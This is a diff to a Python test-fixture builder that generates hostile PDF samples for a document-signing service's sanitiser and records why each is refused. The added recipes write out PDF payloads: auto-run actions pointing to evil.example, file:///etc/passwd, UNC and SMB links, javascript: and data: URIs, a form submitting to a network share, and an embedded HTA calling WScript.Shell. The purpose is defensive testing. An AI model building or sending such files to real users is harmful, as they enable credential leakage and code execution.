@@ -72,6 +72,7 @@ class Hostile:
     markers: tuple[str, ...] = ()
     exact_text: bool = True
     limits: dict[str, object] = field(default_factory=dict)
+    reason: str | None = None  # the refusal's reason, where the entry names one
 
     @property
     def refused(self) -> bool:
@@ -493,6 +494,7 @@ class _Recipe:
     exact_text: bool = True
     limits: dict[str, object] = field(default_factory=dict)
     tool: str | None = None
+    reason: str | None = None
 
 
 def _bytes(data: bytes | Callable[[], bytes]) -> Callable[[Path], None]:
@@ -575,18 +577,40 @@ def _hostile_recipes(dest: Path, good: dict[str, Path] | None = None) -> list[_R
                                                         damage=damage_xref_shift3), tool="qpdf"),
         # active content, wherever it sits
         R("openaction_uri", ACTIVE, _bytes(_one_page(
-            catalog_extra=b"/OpenAction << /S /URI /URI (https://evil.example/) >> "))),
-        R("link_uri", ACTIVE, _bytes(_link(b"<< /S /URI /URI (https://evil.example/x) >>"))),
+            catalog_extra=b"/OpenAction << /S /URI /URI (https://evil.example/) >> ")),
+          reason="automatic_action"),
+        R("page_aa_uri", ACTIVE, _bytes(_one_page(
+            page_extra=b"/AA << /O << /S /URI /URI (https://evil.example/) >> >> ")),
+          reason="automatic_action"),
+        R("openaction_gotoe", ACTIVE, _bytes(_one_page(
+            catalog_extra=b"/OpenAction << /S /GoToE /T << /R /C /N (inner.pdf) >> >> ")),
+          reason="automatic_action"),
+        # links a person clicks: out to the web, never to the reader's files or scripts
+        R("link_uri", SIGNED, _bytes(_link(b"<< /S /URI /URI (https://evil.example/x) >>"))),
+        R("link_file_uri", ACTIVE, _bytes(_link(b"<< /S /URI /URI (file:///etc/passwd) >>")),
+          reason="link_scheme"),
+        R("link_unc", ACTIVE, _bytes(_link(rb"<< /S /URI /URI (\\evil\share\x.pdf) >>")),
+          reason="link_scheme"),
+        R("link_smb", ACTIVE, _bytes(_link(b"<< /S /URI /URI (smb://evil/share) >>")),
+          reason="link_scheme"),
+        R("link_javascript_uri", ACTIVE, _bytes(_link(
+            rb"<< /S /URI /URI ( javascript:app.alert\(1\)) >>")), reason="link_scheme"),
+        R("link_data_uri", ACTIVE, _bytes(_link(
+            b"<< /S /URI /URI (data:text/html,<script>x</script>) >>")), reason="link_scheme"),
+        R("submitform_unc", ACTIVE, _bytes(_field(
+            b"/FT /Btn /Ff 65536 /T (send) "
+            rb"/A << /S /SubmitForm /F << /FS /URL /F (\\evil\share\in) >> >> ")),
+          reason="link_scheme"),
         R("page_aa_gotor_unc", ACTIVE, _bytes(_one_page(
             page_extra=rb"/AA << /O << /S /GoToR /F (\\\\evil\\share\\x.pdf) /D [0 /Fit] >> >> "))),
-        R("gotoe", ACTIVE, _bytes(_link(
+        R("gotoe", SIGNED, _bytes(_link(
             b"<< /S /GoToE /NewWindow true /T << /R /C /N (inner.pdf) >> /D [0 /Fit] >>"))),
         R("hide", ACTIVE, _bytes(_link(b"<< /S /Hide /T (secret) /H false >>"))),
         R("set_ocg_state", ACTIVE, _bytes(_one_page(page_extra=b"/Annots [6 0 R] ", more=[
             b"<< /Type /Annot /Subtype /Link " + _RECT
             + b"/A << /S /SetOCGState /State [/OFF 7 0 R] >> >>",
             b"<< /Type /OCG /Name (layer) >>"]))),
-        R("submitform_widget", ACTIVE, _bytes(_field(
+        R("submitform_widget", SIGNED, _bytes(_field(
             b"/FT /Btn /Ff 65536 /T (send) "
             b"/A << /S /SubmitForm /F << /FS /URL /F (https://evil.example/collect) >> >> "))),
         R("import_data", ACTIVE, _bytes(_link(b"<< /S /ImportData /F (data.fdf) >>"))),
@@ -604,7 +628,8 @@ def _hostile_recipes(dest: Path, good: dict[str, Path] | None = None) -> list[_R
             catalog_extra=b"/Names << /JavaScript << /Names [(init) 6 0 R] >> >> ", more=[_JS]))),
         R("outline_launch", ACTIVE, _bytes(_outline_launch)),
         R("objstm_javascript", ACTIVE, _objstm_js, tool="qpdf"),
-        R("pdflatex_hyperref_uri", ACTIVE, lambda o: _copy_good(good, "pdflatex_hyperref", o)),
+        R("pdflatex_hyperref_uri", SIGNED, lambda o: _copy_good(good, "pdflatex_hyperref", o),
+          markers=("Service agreement", "https://example.org/terms"), exact_text=False),
         R("field_aa_keystroke_js", ACTIVE, _bytes(_field(
             b"/FT /Tx /T (amount) /AA << /K 7 0 R >> ", more=[_JS]))),
         R("embedded_pdf_with_js", ACTIVE, _bytes(lambda: _embedded(
@@ -626,6 +651,14 @@ def _hostile_recipes(dest: Path, good: dict[str, Path] | None = None) -> list[_R
         R("allowed_embedded_notes_txt", SIGNED, _bytes(_embedded(
             b"notes.txt", b"Meeting notes: the buyer agreed to the terms.\n", b"/Subtype /text#2Fplain ")),
           markers=("casesignd test",)),
+        # a page is a document, as mail treats it; an HTML application runs
+        R("allowed_embedded_receipt_html", SIGNED, _bytes(_embedded(
+            b"receipt.html", b"<!doctype html><html><body><p>Paid.</p><script>print()</script>"
+            b"</body></html>", b"/Subtype /text#2Fhtml ")), markers=("casesignd test",)),
+        R("embedded_page_is_hta", ACTIVE, _bytes(_embedded(
+            b"receipt.html", b"<html><head><title>r</title><HTA:APPLICATION ID='r'></head>"
+            b"<body><script>new ActiveXObject('WScript.Shell')</script></body></html>")),
+          reason="executable_attachment"),
         R("allowed_reportlab_plain", SIGNED, lambda o: _copy_good(good, "reportlab_plain", o),
           markers=DAMAGE_SOURCES["reportlab_plain"][0]),
         # budgets
@@ -663,7 +696,9 @@ HOSTILE_NAMES: tuple[str, ...] = (
     "random_bytes", "no_objects",
     "encrypted_rc4_40", "encrypted_rc4_128", "encrypted_aes_128", "encrypted_aes_256",
     "encrypted_aes_256_r5", "encrypted_owner_only", "encrypted_pubsec", "encrypted_and_damaged",
-    "openaction_uri", "link_uri", "page_aa_gotor_unc", "gotoe", "hide", "set_ocg_state",
+    "openaction_uri", "page_aa_uri", "openaction_gotoe", "link_uri", "link_file_uri",
+    "link_unc", "link_smb", "link_javascript_uri", "link_data_uri", "submitform_unc",
+    "page_aa_gotor_unc", "gotoe", "hide", "set_ocg_state",
     "submitform_widget", "import_data", "rendition", "unknown_action", "named_print",
     "next_chain_js", "javascript_escaped_name", "annot_3d_oninstantiate", "richmedia",
     "names_javascript", "outline_launch", "objstm_javascript", "pdflatex_hyperref_uri",
@@ -671,7 +706,8 @@ HOSTILE_NAMES: tuple[str, ...] = (
     "embedded_pdf_with_js", "embedded_name_exe_dot", "embedded_name_exe_space",
     "embedded_name_docm", "embedded_name_iso", "embedded_name_hta", "embedded_name_js",
     "embedded_txt_is_pe", "embedded_txt_is_elf",
-    "allowed_goto_and_named", "allowed_embedded_notes_txt", "allowed_reportlab_plain",
+    "allowed_goto_and_named", "allowed_embedded_notes_txt", "allowed_embedded_receipt_html",
+    "embedded_page_is_hta", "allowed_reportlab_plain",
     "budget_40_streams_of_8mib", "budget_7_streams_of_8mib", "budget_40_images_of_8mib",
 )
 
@@ -717,7 +753,8 @@ def build_hostile_corpus(dest: Path, good: dict[str, Path]) -> dict[str, Hostile
                 raw["missing"][r.name] = f"{type(e).__name__}: {e}"[:500]
                 out.unlink(missing_ok=True)
                 continue
-            entry = Hostile(r.name, out, r.expect, r.never, r.markers, r.exact_text, r.limits)
+            entry = Hostile(r.name, out, r.expect, r.never, r.markers, r.exact_text, r.limits,
+                            r.reason)
             d = asdict(entry)
             d["path"] = str(out)
             raw["built"][r.name] = d
